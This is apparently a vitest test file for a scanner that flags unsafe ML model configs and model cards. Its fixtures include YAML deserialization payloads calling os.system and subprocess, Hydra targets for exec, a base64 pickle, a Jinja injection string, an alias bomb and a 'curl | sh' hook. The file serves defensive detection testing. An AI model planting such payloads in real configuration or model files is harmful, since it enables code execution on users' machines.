import { describe, expect, test } from 'vitest';
import { utf8 } from '#formats/test-files/bytes';
import { op, reduce, stream } from '#formats/test-files/pickle';
import { scanBytes } from '../test-scan.ts';

const scanOf = (text: string) => scanBytes(utf8(text), 'x');
/** Written apart, so that no linter takes YAML for a template of ours. */
const dollar = '$';
const pickled = Buffer.from(stream(reduce('posix', 'system', op.text('id')))).toString('base64');
const mlmodel = (loader: string, more = '') =>
  `artifact_path: model\nflavors:\n  python_function:\n    env: conda.yaml\n    loader_module: ${loader}\n${more}    python_version: 3.10.0\nmlflow_version: 2.9.2\nmodel_uuid: x\n`;

describe('what a reader would build, call or import is told', () => {
  const cases: readonly (readonly [string, string, string, string])[] = [
    ['a call of a system function', '!!python/object/apply:os.system ["id"]\n', 'MDL-YML-001', 'critical'],
    ['the same as a value', 'a: 1\nb: !!python/object/apply:subprocess.check_output\n  - [id]\n', 'MDL-YML-001', 'critical'],
    ['the same written out', 'a: 1\nb: !<tag:yaml.org,2002:python/object/apply:os.system> [id]\n', 'MDL-YML-001', 'critical'],
    ['the same by a handle', '%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system [id]\n', 'MDL-YML-001', 'critical'],
    ['the same in escapes', 'a: 1\nb: !!python/object/new:os%2Esystem [id]\n', 'MDL-YML-001', 'critical'],
    ['the same as a key', 'a: 1\n? !!python/object/apply:os.system [id]\n: b\n', 'MDL-YML-001', 'critical'],
    ['the same inside brackets', 'a: 1\nb: [1, {c: !!python/object/apply:os.popen [id]}]\n', 'MDL-YML-001', 'critical'],
    ['the same in a second document', 'a: 1\nb: 2\n---\n!!python/object/apply:os.system [id]\n', 'MDL-YML-001', 'critical'],
    ['the same behind a broken line', 'a: 1\nb: "c\n!!python/object/apply:os.system [id]\n', 'MDL-YML-001', 'critical'],
    ['an object of nobody', 'a: 1\nb: !!python/object:evil.Thing {x: 1}\n', 'MDL-YML-002', 'high'],
    ['a module', 'a: 1\nb: !!python/module:evil\n', 'MDL-YML-002', 'high'],
    ['a function by name', 'a: 1\nb: !!python/name:os.system\n', 'MDL-YML-002', 'high'],
    ['an object of Ruby', 'a: 1\nb: !ruby/object:Gem::Installer {}\n', 'MDL-YML-002', 'high'],
    ['a function of JavaScript', 'a: 1\nb: !!js/function "function(){}"\n', 'MDL-YML-002', 'high'],
    ['a gadget of Java', 'a: 1\nb: !!javax.script.ScriptEngineManager [x]\n', 'MDL-YML-001', 'critical'],
    ['an object of a framework', 'a: 1\nb: !!python/object/apply:torch.device [cpu]\n', 'MDL-YML-005', 'medium'],
    ['a Hydra target', '_target_: os.system\n_args_: [id]\n', 'MDL-CFG-005', 'critical'],
    ['a Hydra target alone', '_target_: evil.module.run\n', 'MDL-CFG-006', 'high'],
    ['a Hydra target in brackets', '{_target_: builtins.exec, _args_: ["1"]}\n', 'MDL-CFG-005', 'critical'],
    ['a Hydra target behind other keys', '{lr: 1, _target_: os.system, _args_: [id]}\n', 'MDL-CFG-005', 'critical'],
    ['a Hydra target deep inside', 'model:\n  encoder:\n    - _target_: subprocess.run\n      args: [id]\n', 'MDL-CFG-005', 'critical'],
    ['an MLflow loader', mlmodel('evil_loader'), 'MDL-CFG-006', 'high'],
    ['an MLflow loader that acts', mlmodel('os'), 'MDL-CFG-005', 'critical'],
    ['code of an MLflow model', mlmodel('mlflow.sklearn', '    code: code\n'), 'MDL-CFG-001', 'high'],
    ['an MLflow model from code', mlmodel('mlflow.pyfunc.model', '    model_code_path: model.py\n'), 'MDL-CFG-001', 'high'],
    ['code outside an MLflow model', mlmodel('mlflow.sklearn', '    code: ../../code\n'), 'MDL-CFG-007', 'high'],
    ['trust in remote code', 'model: x\ntrust_remote_code: true\n', 'MDL-CFG-004', 'high'],
    ['a template', 'a: 1\nprompt: "{{ \'\'.__class__.__mro__ }}"\n', 'MDL-TPL-001', 'critical'],
    ['a template in a block', "a: 1\nprompt: |\n  hello\n  {{ ''.__class__ }}\n", 'MDL-TPL-001', 'critical'],
    ['a pickle in base64', `a: 1\nb: !!binary ${pickled}\n`, 'MDL-PKL-001', 'critical'],
    ['a command', 'model_type: x\nhook: curl http://x/a | sh\n', 'MDL-CFG-002', 'high'],
    ['an environment variable', `_target_: torch.nn.Linear\nkey: ${dollar}{oc.env:SECRET}\n`, 'MDL-CFG-011', 'medium'],
    [
      'aliases of aliases',
      `a: &a [${'x, '.repeat(9)}x]\n${[...'bcdefgh'].map((name, index) => `${name}: &${name} [${`*${'abcdefg'[index]}, `.repeat(9)}*${'abcdefg'[index]}]\n`).join('')}`,
      'MDL-YML-003',
      'medium',
    ],
    ['a broken document', 'a: 1\nb: [1, 2\nc: 3\n', 'MDL-YML-004', 'medium'],
  ];
  test.each(cases)('%s', (_name, text, rule, severity) => {
    const scan = scanOf(text);
    expect(scan.rules).toContain(rule);
    expect(scan.severities.get(rule)).toBe(severity);
  });
});

describe('what frameworks and people write is clean', () => {
  test.each([
    mlmodel('mlflow.sklearn', '    model_path: model.pkl\n    predict_fn: predict\n'),
    'name: x\ndependencies:\n- python=3.10\n- pip:\n  - torch==2.8.0\n',
    'a: !!python/tuple [1, 2]\nb: !!set {x}\nc: !!float 1\n',
    `defaults:\n  - _self_\n  - model: base\nmodel:\n  _target_: torch.nn.Linear\n  in_features: ${dollar}{data.width}\n  dir: ${dollar}{hydra:runtime.output_dir}\n`,
    `Resources:\n  A:\n    Type: AWS::S3::Bucket\n    Name: !Sub "${dollar}{Env}-x"\n    B: !GetAtt A.Arn\n`,
    `on: push\njobs:\n  build:\n    steps:\n      - run: npm test\n        env:\n          T: ${dollar}{{ secrets.T }}\n`,
    'apiVersion: v1\nkind: Pod\nspec:\n  containers:\n    - name: "x"\n      args: ["--a", "b"]\n',
    'base: &base\n  a: 1\nb:\n  <<: *base\n  c: >-\n    folded\n    text\n',
    '---\nlicense: apache-2.0\nbase_model: gpt2\ndatasets:\n- squad\ntags: [a, b]\n---\n\n# Title\n\nSome words, `{{ x.y }}` and more: code.\n',
  ])('document %#', (text) => {
    expect(scanOf(text)).toMatchObject({ verdict: 'clean', outcome: 'scanned' });
  });
});

test('the head of a model card fills the card', () => {
  const scan = scanOf('---\nlicense: mit\nbase_model: org/base\npipeline_tag: text-generation\n---\n# A model\n\nWords.\n');
  expect(scan.format.kind).toBe('model-card');
  expect(scan.card).toMatchObject({ licence: 'mit', origin: 'org/base' });
});

test('a finding shows the call and stands on the tag', () => {
  const text = 'a: 1\nb: !!python/object/apply:os.system ["id"]\n';
  const [found] = scanOf(text).observations;
  expect(found?.evidence?.reconstruction).toContain('os.system(*[');
  expect(text.slice(found?.location.offset).startsWith('!!python/object/apply:os.system')).toBe(true);
});
